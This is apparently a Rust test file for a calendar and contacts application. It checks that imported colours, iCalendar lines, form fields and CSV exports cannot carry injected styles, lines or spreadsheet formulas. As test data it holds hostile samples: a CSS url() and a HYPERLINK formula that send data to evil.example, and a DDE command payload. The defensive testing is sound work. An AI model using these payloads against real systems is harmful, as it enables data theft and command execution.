//! What one member writes reaches others' pages and files only in a form that cannot act there:
//! a colour is a colour, a spreadsheet cell is no formula, an iCalendar line is one line.

mod common;

use common::{demo_org, own_book, own_calendar, NOW};
use domain::calendar::events::{create_event, occurrences};
use domain::calendar::transfer::{export_ics, import_ics};
use domain::calendar::EventInput;
use domain::contacts::cards::create_contact;
use domain::contacts::transfer::export_csv;
use domain::contacts::{ContactInput, FieldKind, TypedValue};
use domain::import::ImportTarget;
use domain::import::SkipCode;
use domain::reason::Reason;
use domain::DomainError;

/// Where exported attachment links lead.
const BASE_URL: &str = "https://ksuite.test";

fn refused_for_controls<T: std::fmt::Debug>(r: Result<T, DomainError>, field: &str) {
    match r {
        Err(DomainError::Invalid { field: f, reason }) => {
            assert_eq!((f.as_str(), reason), (field, Reason::ControlCharacters));
        }
        other => panic!("{field}: {other:?}"),
    }
}

#[tokio::test]
async fn an_imported_colour_that_is_no_colour_never_reaches_a_style() {
    let d = demo_org().await;
    let cal = own_calendar(&d, &d.anna).await;
    let file = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\n\
BEGIN:VEVENT\r\nUID:css@x\r\nDTSTART:20261201T090000Z\r\nSUMMARY:Styled\r\n\
COLOR:red;background:url(https://evil.example/steal)\r\nEND:VEVENT\r\n\
BEGIN:VEVENT\r\nUID:teal@x\r\nDTSTART:20261201T100000Z\r\nSUMMARY:Teal\r\nCOLOR:Teal\r\nEND:VEVENT\r\n\
END:VCALENDAR\r\n";
    let target = ImportTarget::Existing(cal.clone());
    let summary = import_ics(&d.db, &d.anna, &target, file.as_bytes().to_vec(), NOW)
        .await
        .unwrap();
    assert_eq!(summary.imported, 2);
    assert_eq!(summary.skipped.len(), 1);
    assert_eq!(summary.skipped[0].code, SkipCode::PartLeftOut);
    assert!(summary.skipped[0].reason.starts_with("COLOR"));
    let drawn = occurrences(&d.db, &d.anna, "UTC", "2026-12-01", "2026-12-02", NOW)
        .await
        .unwrap();
    let colours: Vec<_> = drawn
        .iter()
        .filter(|o| o.calendar_id == cal)
        .map(|o| (o.title.as_str(), o.color.as_deref()))
        .collect();
    assert_eq!(colours, [("Styled", None), ("Teal", Some("teal"))]);
}

#[tokio::test]
async fn line_breaks_of_any_kind_stay_inside_their_icalendar_line() {
    let d = demo_org().await;
    let cal = own_calendar(&d, &d.anna).await;
    // A lone CR inside a value, as some exporters leave them.
    let file = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VEVENT\r\nUID:cr@x\r\n\
DTSTART:20261201T090000Z\r\nSUMMARY:Budget\rX-INJECTED:1\r\nDESCRIPTION:bell\u{7} and CR\r\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    let target = ImportTarget::Existing(cal.clone());
    import_ics(&d.db, &d.anna, &target, file.as_bytes().to_vec(), NOW)
        .await
        .unwrap();
    let (_, exported) = export_ics(&d.db, &d.anna, &cal, BASE_URL).await.unwrap();
    assert!(
        exported.contains("SUMMARY:Budget\\nX-INJECTED:1\r\n"),
        "{exported}"
    );
    assert!(!exported.contains('\u{7}'));
    assert!(!exported.replace("\r\n", "").contains('\r'), "{exported:?}");
    assert!(!exported.contains("\r\nX-INJECTED"));
}

#[tokio::test]
async fn control_characters_typed_into_a_form_are_refused() {
    let d = demo_org().await;
    let cal = own_calendar(&d, &d.anna).await;
    let event = |title: &str, description: &str| EventInput {
        calendar_id: cal.clone(),
        title: title.into(),
        all_day: false,
        start: "2026-12-01T09:00".into(),
        end: "2026-12-01T10:00".into(),
        time_zone: "UTC".into(),
        location: String::new(),
        description: description.into(),
        color: None,
        url: String::new(),
        video_url: String::new(),
        recurrence: None,
    };
    refused_for_controls(
        create_event(&d.db, &d.anna, &event("Budget\rX-INJECTED:1", ""), NOW).await,
        "title",
    );
    refused_for_controls(
        create_event(&d.db, &d.anna, &event("Budget", "escape \u{1b}[2J"), NOW).await,
        "description",
    );
    // Line breaks are what a description is for.
    create_event(&d.db, &d.anna, &event("Budget", "one\r\ntwo"), NOW)
        .await
        .unwrap();

    let book = own_book(&d, &d.anna).await;
    let contact = ContactInput {
        book_id: book,
        first: "Ada\u{0}".into(),
        ..ContactInput::default()
    };
    refused_for_controls(create_contact(&d.db, &d.anna, &contact, NOW).await, "first");
}

#[tokio::test]
async fn a_csv_export_opens_in_a_spreadsheet_without_running_anything() {
    let d = demo_org().await;
    let book = own_book(&d, &d.anna).await;
    let contact = ContactInput {
        book_id: book.clone(),
        first: "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into(),
        organization: "+cmd|' /C calc'!A0".into(),
        phones: vec![TypedValue {
            kind: FieldKind::Cell,
            value: "+41 79 123 45 67".into(),
        }],
        ..ContactInput::default()
    };
    create_contact(&d.db, &d.anna, &contact, NOW).await.unwrap();
    let (_, csv) = export_csv(&d.db, &d.anna, &book, None).await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .filter(|c| !c.is_empty())
        .collect();
    let risky = |c: &String| c.starts_with(['=', '+', '-', '@']) && c != "+41 79 123 45 67";
    assert!(!cells.iter().any(risky), "{cells:?}");
    assert!(cells.iter().any(|c| c.starts_with("'=HYPERLINK")));
    assert!(cells.iter().any(|c| c == "'+cmd|' /C calc'!A0"));
    assert!(cells.iter().any(|c| c == "+41 79 123 45 67"));
}
